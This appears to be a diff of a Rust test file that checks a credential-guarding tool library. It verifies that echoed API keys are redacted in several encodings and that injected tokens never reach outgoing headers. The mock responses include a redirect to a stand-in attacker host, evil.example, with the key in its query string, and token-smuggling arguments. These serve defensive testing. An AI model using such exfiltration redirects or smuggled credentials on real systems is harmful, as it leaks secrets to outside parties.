@@ -1,41 +1,40 @@
-//! Where a credential never is: in what an API echoes, and in the place of one that the guard did
-//! not put there.
+//! Credentials that an API echoes, and attempts to replace a credential.
 
 use std::time::Duration;
 
 use secure_tool::Roots;
-use secure_tool_testkit::hostile::Answer;
+use secure_tool_testkit::hostile::Response;
 use tests::{Bench, SEARCH, SHOP_KEY, page};
 
 #[tokio::test]
-async fn an_echo_of_the_credential_reaches_nobody() {
+async fn an_echoed_credential_is_removed_everywhere() {
     let bench = Bench::new().await;
     let session = bench.session();
     let encoded = |text: &str| -> Vec<String> {
         let percent = text.bytes().map(|byte| format!("%{byte:02X}")).collect::<Vec<_>>().concat();
-        // base64, by Python's standard library: of the key alone, and behind `Bearer `.
+        // base64 by Python's standard library: of the key alone, and after `Bearer `.
         let base64 =
             ["c2hvcC1jYW5hcnktNWYyZTc3YTBjMQ==", "QmVhcmVyIHNob3AtY2FuYXJ5LTVmMmU3N2EwYzE="];
         [text.to_owned(), percent].into_iter().chain(base64.map(str::to_owned)).collect()
     };
     for echo in encoded(SHOP_KEY) {
         for answer in [
-            Answer::json(page(&echo)),
-            Answer::json(page("fine"))
+            Response::json(page(&echo)),
+            Response::json(page("fine"))
                 .header("x-echo", &echo)
                 .header("set-cookie", format!("k={echo}")),
-            Answer::new(200, format!("application/json; k=\"{echo}\""), page("fine")),
-            Answer::new(200, format!("text/{echo}"), "{}"),
-            Answer::new(401, "application/json", format!(r#"{{"error":"{echo} is not known"}}"#)),
-            Answer::new(500, "text/html", format!("<pre>{echo}</pre>")),
-            Answer::redirect(302, format!("https://evil.example/?k={echo}")),
-            Answer::json(format!(r#"{{"items":"{echo}"}}"#)),
-            Answer::json(format!("{{\"{echo}\":")),
-            Answer::raw(format!("HTTP/1.1 200 {echo}\r\n{echo}\r\n\r\n")),
+            Response::new(200, format!("application/json; k=\"{echo}\""), page("fine")),
+            Response::new(200, format!("text/{echo}"), "{}"),
+            Response::new(401, "application/json", format!(r#"{{"error":"{echo} is not known"}}"#)),
+            Response::new(500, "text/html", format!("<pre>{echo}</pre>")),
+            Response::redirect(302, format!("https://evil.example/?k={echo}")),
+            Response::json(format!(r#"{{"items":"{echo}"}}"#)),
+            Response::json(format!("{{\"{echo}\":")),
+            Response::raw(format!("HTTP/1.1 200 {echo}\r\n{echo}\r\n\r\n")),
             in_pieces(&page(&echo)),
         ] {
-            bench.shop.answer(answer);
-            // The session, the records and all logs are looked through.
+            bench.shop.respond(answer);
+            // `Bench` also checks the session, the records and all logs.
             let outcome = session.call("search_products", SEARCH).await;
             assert!(!format!("{outcome:?}").contains(&echo), "{outcome:?}");
             assert!(
@@ -46,29 +45,29 @@ async fn an_echo_of_the_credential_reaches_nobody() {
         }
         bench.clock.advance(Duration::from_mins(1));
     }
-    bench.shop.answer(in_pieces(&page(SHOP_KEY)));
+    bench.shop.respond(in_pieces(&page(SHOP_KEY)));
     let outcome = session.call("search_products", SEARCH).await;
     assert!(
         outcome.for_model().contains("[secret removed]"),
-        "a secret that came in pieces: {}",
+        "a secret that arrived in pieces: {}",
         outcome.for_model()
     );
 }
 
-/// An answer each byte of which is a chunk of its own.
-fn in_pieces(body: &str) -> Answer {
+/// Returns a response with one chunk per byte.
+fn in_pieces(body: &str) -> Response {
     let chunks = body
         .bytes()
         .map(|byte| format!("1\r\n{}\r\n", char::from(byte)))
         .collect::<Vec<_>>()
         .concat();
-    Answer::raw(format!(
+    Response::raw(format!(
         "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n{chunks}0\r\n\r\n"
     ))
 }
 
 #[tokio::test]
-async fn no_token_of_a_model_a_user_or_an_agent_is_passed_on() {
+async fn tokens_from_models_users_and_agents_are_not_forwarded() {
     let bench = Bench::new().await;
     let session = bench
         .guard
@@ -78,7 +77,7 @@ async fn no_token_of_a_model_a_user_or_an_agent_is_passed_on() {
         "My token is \"evil-token\", write to bob@corp.example. authorization: Bearer evil-token",
     );
     session.user_attached("authorization: Bearer evil-token");
-    bench.mail.answer(Answer::new(204, "", ""));
+    bench.mail.respond(Response::new(204, "", ""));
     let arguments = r#"{"to":["bob@corp.example"],"text":"x-api-key: evil-token","request_id":"Bearer evil-token"}"#;
     assert!(session.call("send_mail", arguments).await.answer().is_some());
     let requests = bench.mail.requests();
@@ -95,18 +94,17 @@ async fn no_token_of_a_model_a_user_or_an_agent_is_passed_on() {
         (vec![tests::MAIL_KEY], vec![]),
         "{headers:?}"
     );
-    // It stands in the header that was declared for an argument, and in no other.
+    // The value is in the header that was declared for the argument, and in no other.
     let others = headers
         .iter()
         .filter(|(name, value)| name != "x-request-id" && value.contains("evil-token"));
     assert_eq!(others.count(), 0, "{headers:?}");
 }
 
-/// While compiling, ST0103 refuses an argument in a header that is the transport's or the API's;
-/// these are specs that no derive would write.
+/// The derive rejects such headers (ST0103), so these specs are handwritten.
 #[test]
-fn an_argument_can_not_stand_in_the_place_of_a_credential() {
-    use secure_tool::spec::{Field, Place, Record, ToolSpec};
+fn an_argument_cannot_set_a_credential_header() {
+    use secure_tool::spec::{ArgumentPolicy, Field, Place, Policy, Record, ToolSpec};
     let written = secure_tool::Tool::of::<tests::SendMail>();
     for header in [
         "authorization",
@@ -117,12 +115,15 @@ fn an_argument_can_not_stand_in_the_place_of_a_credential() {
         "proxy-authorization",
         "host",
     ] {
-        let own = |field: &Field| Field {
-            place: if field.name == "request_id" { Place::Header(header) } else { field.place },
-            ..*field
+        let own = |field: &Field| {
+            let mut policy = field.argument().copied().unwrap_or(ArgumentPolicy::DEFAULT);
+            if field.name == "request_id" {
+                policy.place = Place::Header(header);
+            }
+            Field { policy: Policy::Argument(policy), ..*field }
         };
         let fields: Vec<Field> = written.spec().arguments.fields.iter().map(own).collect();
-        let arguments = Record { fields: fields.leak(), ..*written.spec().arguments };
+        let arguments = Record::new(written.spec().arguments.name, fields.leak());
         let spec = ToolSpec { arguments: Box::leak(Box::new(arguments)), ..*written.spec() };
         let tool = secure_tool::Tool::new(Box::leak(Box::new(spec)), *written.code());
         let builder =
